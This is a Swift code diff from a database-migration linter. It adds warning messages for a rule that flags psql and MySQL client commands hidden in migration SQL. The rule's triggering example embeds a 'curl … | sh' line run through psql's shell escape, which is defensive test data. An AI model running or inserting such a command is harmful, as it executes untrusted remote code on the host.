@@ -11,3 +11,19 @@ enum ClientCommandRule: RuleUnit {
         triggering: [RuleExample(Snippets.spec(changes: "    - sql:\n        name: add-tier\n        up: |\n          ALTER TABLE pricing ADD COLUMN tier text;\n          \\! curl -s https://example.com/x | sh\n        down: ALTER TABLE pricing DROP COLUMN tier;\n")).expecting((21, 11))],
         nonTriggering: [RuleExample(Snippets.spec(changes: "    - sql:\n        name: add-tier\n        up: |\n          ALTER TABLE pricing ADD COLUMN tier text;\n        down: ALTER TABLE pricing DROP COLUMN tier;\n"))])
 }
+
+extension Message {
+    public static func clientCommand(_ command: SQLClientCommand, in what: String, engine: MigrationSpec.Engine) -> String {
+        let client = engine == .postgresql ? "psql" : "the mysql client"
+        let name = command.name.count > 40 ? String(command.name.prefix(40)) + "…" : command.name
+        let reading = command.assumption.map { " (\($0))" } ?? ""
+        let exception = engine == .postgresql ? " (pg_dump's '\\restrict KEY' lines are the only exception)" : ""
+        if engine == .mysql && name.lowercased() == "load" {
+            return "\(what) has 'LOAD … LOCAL INFILE', which makes the mysql client read a file on its own host\(reading); SQL must not carry client commands"
+        }
+        if name.hasPrefix(":") {
+            return "\(what) has '\(name)', which psql replaces with its variable's value and reads as input (a value can hold a meta-command)\(reading); SQL must not use psql variables"
+        }
+        return "\(what) has '\(name)', which \(client) runs itself instead of sending it to the server\(reading); SQL must not carry client commands\(exception)"
+    }
+}
